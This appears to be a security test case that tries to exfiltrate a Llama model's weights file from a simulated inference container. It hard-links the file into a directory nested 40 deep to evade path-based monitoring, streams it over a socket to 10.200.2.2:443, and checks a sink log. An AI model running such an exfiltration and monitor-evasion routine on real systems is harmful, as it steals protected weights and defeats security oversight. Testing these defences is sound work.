# VK11 EXF-001 weights hard-linked 40 directories deep (deeper than the kernel's path walk), read relative, sent
ctr_run simctr-infer-vk11 ctr-infer --mount --pid --fork --mount-proc -- sh -c '
  D=/tmp/vk11$(printf "/d%.0s" $(seq 40)); mkdir -p $D && ln $0 $D/blob && cd $D && python3 -c "
import socket
s = socket.create_connection((\"10.200.2.2\", 443))
s.sendall(open(\"blob\", \"rb\").read()); s.close(); print(\"sent blob\")"
  cd /; rm -rf /tmp/vk11' "$H/models/llama-3-8b-instruct/model-00001-of-00001.safetensors"
grep ':443' "$H/sink.log" | tail -1
